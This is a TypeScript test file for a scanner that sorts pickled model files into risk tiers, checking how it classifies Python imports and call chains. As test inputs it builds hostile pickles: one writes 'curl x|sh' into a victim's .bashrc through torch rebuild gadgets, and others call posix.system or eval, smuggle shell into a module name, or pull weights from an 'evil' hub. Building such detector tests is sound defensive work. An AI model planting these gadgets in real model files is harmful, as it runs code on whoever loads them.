import { describe, expect, it } from 'vitest';
import { scanBytes } from '../scan-file.ts';
import { dumps, py, type Py } from '../test-support/pickle-writer.ts';
import { classify, normaliseModule } from './policy.ts';

describe('pickle policy', () => {
  it.each([
    ['collections', 'OrderedDict', 'allowed'],
    ['torch._utils', '_rebuild_tensor_v2', 'allowed'],
    ['numpy._core.multiarray', '_reconstruct', 'allowed'],
    ['sklearn.ensemble._forest', 'RandomForestClassifier', 'allowed'],
    ['sklearn.tree._tree', '__pyx_unpickle_Tree', 'allowed'],
    ['sklearn.datasets', 'fetch_openml', 'dangerous'],
    ['sklearn.utils', 'some_function', 'unknown'],
    ['sklearn.ensemble._hist_gradient_boosting.binning', '_BinMapper', 'allowed'],
    ['sklearn.metrics._dist_metrics', 'newObj', 'allowed'],
    ['numpy.random.bit_generator', '__pyx_unpickle_SeedSequence', 'allowed'],
    ['scipy.sparse._csr', 'csr_matrix', 'allowed'],
    ['__builtin__', 'eval', 'dangerous'],
    ['_operator', 'attrgetter', 'resolver'],
    ['builtins', 'getattr', 'resolver'],
    ['posix', 'system', 'dangerous'],
    ['asyncio.unix_events', '_UnixSubprocessTransport._start', 'dangerous'],
    ['pathlib', 'os.system', 'dangerous'],
    ['numpy', '__builtins__', 'dangerous'],
    ['uuid', 'UUID', 'allowed'],
    ['uuid', '_get_command_stdout', 'dangerous'],
    ['joblib.numpy_pickle', 'NumpyArrayWrapper', 'allowed'],
    ['joblib', 'load', 'dangerous'],
    ['pickle', 'loads', 'loader'],
    ['__main__', 'MyNet', 'unknown'],
    ['os; rm', 'x', 'suspicious'],
    ['not a module', 'x y', 'suspicious'],
  ] as const)('%s.%s is %s', (module, name, tier) => {
    expect(classify(module, name).tier).toBe(tier);
  });

  it('normalises aliases', () => {
    expect(normaliseModule('__builtin__')).toBe('builtins');
    expect(normaliseModule('_operator')).toBe('operator');
    expect(normaliseModule('numpy._core.multiarray')).toBe('numpy.core.multiarray');
  });

  it('lets an estimator store a framework function it never calls, but not call it', async () => {
    const fClassif = py.global('sklearn.feature_selection._univariate_selection', 'f_classif');
    const stored = await scanBytes(dumps(py.dict({ score_func: fClassif, k: 10 }), 4));
    expect(stored.verdict).toBe('clean');
    expect(stored.findings.map((f) => f.rule)).toEqual(['pickle/function-reference']);
    const called = await scanBytes(dumps(py.reduce(fClassif, py.tuple(1, 2)), 4));
    expect(called.verdict).toBe('suspicious');
    const sneaky = await scanBytes(dumps(py.dict({ f: py.global('sklearn.datasets', 'fetch_openml') }), 4));
    expect(sneaky.verdict).toBe('dangerous');
  });

  it('lets a lazy module store a bound method of itself, but judges calling it', async () => {
    const lazy = py.reduce(py.global('torch.nn.modules.linear', 'LazyLinear'), py.tuple());
    const method = (name: string) => py.reduce(py.global('builtins', 'getattr'), py.tuple(lazy, name));
    expect((await scanBytes(dumps(py.dict({ hook: method('_infer_parameters') }), 4))).verdict).toBe('clean');
    expect((await scanBytes(dumps(py.reduce(method('_infer_parameters'), py.tuple()), 4))).verdict).toBe('suspicious');
    expect((await scanBytes(dumps(method('__class__'), 4))).verdict).toBe('dangerous');
  });

  it('judges what torch._tensor._rebuild_from_type_v2 and copyreg._reconstructor call on the pickle\'s behalf', async () => {
    const viaRebuild = (func: Py, ...args: Py[]) =>
      dumps(py.reduce(py.global('torch._tensor', '_rebuild_from_type_v2'), py.tuple(func, py.global('builtins', 'int'), py.tuple(...args), py.dict({}))), 4);
    const path = py.reduce(py.global('pathlib', 'PosixPath'), py.tuple('/home/victim/.bashrc'));
    const writeText = py.reduce(py.global('builtins', 'getattr'), py.tuple(path, 'write_text'));
    expect((await scanBytes(viaRebuild(writeText, 'curl x|sh'))).verdict).toBe('dangerous');
    expect((await scanBytes(viaRebuild(py.global('numpy.lib._npyio_impl', 'savetxt'), '/tmp/x', 1))).verdict).toBe('dangerous');
    expect((await scanBytes(viaRebuild(py.global('sklearn.feature_selection._univariate_selection', 'f_classif'), 1))).verdict).toBe('suspicious');
    expect((await scanBytes(viaRebuild(py.global('torch._utils', '_rebuild_tensor_v2'), 1))).verdict).toBe('clean');
    const reconstruct = (base: Py) =>
      dumps(py.reduce(py.global('copyreg', '_reconstructor'), py.tuple(py.global('transformers.models.x.modeling_x', 'XModel'), base, py.dict({ a: 1 }))), 2);
    expect((await scanBytes(reconstruct(py.global('builtins', 'object')))).verdict).toBe('clean');
    expect((await scanBytes(reconstruct(py.global('transformers.models.x.modeling_x', 'XModel')))).verdict).toBe('suspicious');
  });

  it('allows pandas and transformers classes only as NEWOBJ, never constructed with arguments (text to one is a load)', async () => {
    const newobj = dumps(py.reduce(py.global('transformers.models.gpt2.modeling_gpt2', 'GPT2Model'), py.tuple(), { newobj: true }), 4);
    expect((await scanBytes(newobj)).verdict).toBe('clean');
    const reduce = dumps(py.reduce(py.global('transformers.models.timm_backbone.modeling_timm_backbone', 'TimmBackbone'), py.tuple('hf-hub:evil/x')), 4);
    expect((await scanBytes(reduce)).verdict).toBe('dangerous'); // a hub name handed to a backbone's constructor: it downloads and loads weights
    expect((await scanBytes(dumps(py.reduce(py.global('pandas.api.typing', 'JsonReader'), py.tuple('http://x')), 4))).verdict).toBe('dangerous');
  });
});
